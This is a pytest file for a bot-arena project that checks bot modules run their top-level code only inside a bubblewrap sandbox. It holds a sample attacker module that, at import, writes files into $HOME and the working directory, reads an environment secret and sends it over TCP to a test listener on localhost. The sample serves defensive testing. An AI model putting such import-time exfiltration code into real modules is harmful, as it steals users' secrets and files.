"""Under the sandbox no bot module from a bot directory or a stored version is imported outside bubblewrap.

The attacker's module tries everything at its top level (write a file in ``$HOME`` and in the current
directory, read an environment secret, connect to a TCP server the test starts); the arena lists and plays
it from what a confined probe reported, so each attempt fails wherever the module is imported.
"""

import os
import socket
import threading
from pathlib import Path

import pytest

from arena.cli.main import app
from arena.league.facade import League
from arena.league.ladder_loop import LeagueLadder
from arena.plugins.registry import PluginConfig, load_registry
from arena.storage.store import Store
from tests.cli_runner import CliRunner
from tests.helpers import REPO, write_module
from tests.league_helpers import shipped_bot

pytestmark = [pytest.mark.needs("bwrap"), pytest.mark.slow]

SECRET = "hunter2-7d1e0b"

ATTACKER = '''
import os, socket
from arena import Bot

HOME = {home!r}
for folder in (HOME, os.environ.get("HOME", HOME), os.getcwd()):
    try:
        with open(os.path.join(folder, "top-level-was-here.txt"), "w") as dropped:
            dropped.write(os.environ.get("ARENA_TEST_SECRET", "no secret"))
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
        connection.sendall(os.environ.get("ARENA_TEST_SECRET", "no secret").encode())
except OSError:
    pass


class TopLevel(Bot):
    """Moves north, or to its first safe cell."""

    name = "toplevel"
    games = ("tron",)

    def __init__(self, depth: int = 1):
        self.depth = depth

    def act(self, obs):
        moves = obs.safe_moves()
        return moves[0] if moves else "N"
'''


@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch):
    """A home folder of the test's own: the attacker's target, never the user's."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return tmp_path / "home"


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 that records what every connection sends."""
    server = socket.create_server(("127.0.0.1", 0))
    received: list[bytes] = []

    def serve():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(100))
                except OSError:
                    received.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    server.shutdown(socket.SHUT_RDWR)  # wakes the accept() (closing alone does not): the thread ends with the test
    server.close()
    thread.join()


def attacker(folder: Path, port: int) -> Path:
    """The attacker's module in ``folder``, aimed at this test's ``$HOME`` and server."""
    home = Path(os.environ["HOME"])
    home.mkdir(parents=True, exist_ok=True)
    return write_module(folder, "toplevel.py", ATTACKER.format(home=str(home), port=port))


def dropped() -> list[Path]:
    """The files the attacker's top level managed to write outside the sandbox."""
    places = (Path(os.environ["HOME"]), Path.cwd())
    return [place / "top-level-was-here.txt" for place in places if (place / "top-level-was-here.txt").exists()]


def test_a_bot_modules_top_level_runs_only_in_the_sandbox_in_a_tournament(tmp_path, listener, monkeypatch):
    port, received = listener
    bots = tmp_path / "bots"
    attacker(bots, port)
    monkeypatch.setenv("ARENA_TEST_SECRET", SECRET)
    db = tmp_path / "arena.db"
    result = CliRunner().invoke(app, ["tournament", str(REPO / "maps" / "empty_room.txt"), "--sandbox",
                                      "--bots", "toplevel:depth=3,wallhugger", "--games", "2", "--workers", "1",
                                      "--db", str(db), "--bots-dir", str(bots)])
    assert result.exit_code == 0, result.output
    assert dropped() == []
    assert received == []
    assert SECRET not in result.output
    with Store(db) as store:
        games = list(store.games())
        assert len(games) == 2 and all(game.failures == {} for game in games), [g.reason for g in games]
        assert {label for game in games for label in game.labels} == {"toplevel:depth=3", "wallhugger"}
    assert SECRET not in db.read_bytes().decode("latin-1")
    resumed = CliRunner().invoke(app, ["tournament", "--resume", "1", "--db", str(db), "--bots-dir", str(bots)])
    assert resumed.exit_code == 0, resumed.output  # a sandboxed run stays sandboxed: its modules checked confined
    assert dropped() == [] and received == []


def test_a_tournament_files_sandbox_key_checks_modules_confined_too(tmp_path, listener):
    port, received = listener
    bots = tmp_path / "bots"
    attacker(bots, port)
    (tmp_path / "cup.toml").write_text(f'maps = [{str(REPO / "maps" / "empty_room.txt")!r}]\n'
                                       'bots = ["toplevel", "wallhugger"]\ngames = 2\nsandbox = true\n')
    result = CliRunner().invoke(app, ["tournament", str(tmp_path / "cup.toml"), "--workers", "1",
                                      "--db", str(tmp_path / "arena.db"), "--bots-dir", str(bots)])
    assert result.exit_code == 0, result.output
    assert dropped() == [] and received == []


def test_the_registry_lists_a_confined_bot_from_the_probe_without_importing_it(tmp_path, listener):
    from arena.play.sandbox import SandboxLimits
    from arena.play.sandbox.probe import SandboxProbe

    port, received = listener
    module = attacker(tmp_path / "bots", port)
    registry = load_registry(PluginConfig(bot_dirs=(str(module.parent),), use_cwd_bots=False, use_env_path=False,
                                          confined=SandboxProbe(SandboxLimits())))
    entry = registry.bot("toplevel")
    assert entry.cls.parameters() == {"depth": 1}
    assert entry.cls.sandbox_module == str(module.resolve())
    assert registry.spec("toplevel:depth=3").params == {"depth": 3}
    assert entry.version == __import__("hashlib").sha256(module.read_bytes()).hexdigest()[:8]
    assert entry.plays("tron") and not entry.plays("catmouse")
    assert dropped() == [] and received == []
    assert not any(name.endswith("_toplevel") for name in __import__("sys").modules)


def test_a_league_submission_and_its_games_never_run_its_top_level_outside_the_sandbox(tmp_path, listener,
                                                                                        monkeypatch):
    port, received = listener
    monkeypatch.setenv("ARENA_TEST_SECRET", SECRET)
    league, _ = League.create(tmp_path / "league", "tron", ["center_block", "empty_room"], seed=11)
    alice = league.authenticate(league.add_team("alice"))
    carol = league.authenticate(league.add_team("carol"))
    league.submit(alice, shipped_bot(tmp_path / "a", "wallhugger.py"))
    version = league.submit(carol, attacker(tmp_path / "c", port))
    assert version.status == "ready" and version.bot == "toplevel"
    league.challenge(carol, "toplevel", "alice/wallhugger", 2)
    league.pause()  # only the challenge plays
    league.close()
    LeagueLadder(tmp_path / "league", workers=1, max_games=2).run()
    with League.open(tmp_path / "league") as league:
        games = league.games(kind="challenge")
        assert len(games) == 2 and all(s.failure is None for g in games for s in g.seats)
    assert dropped() == []
    assert received == []
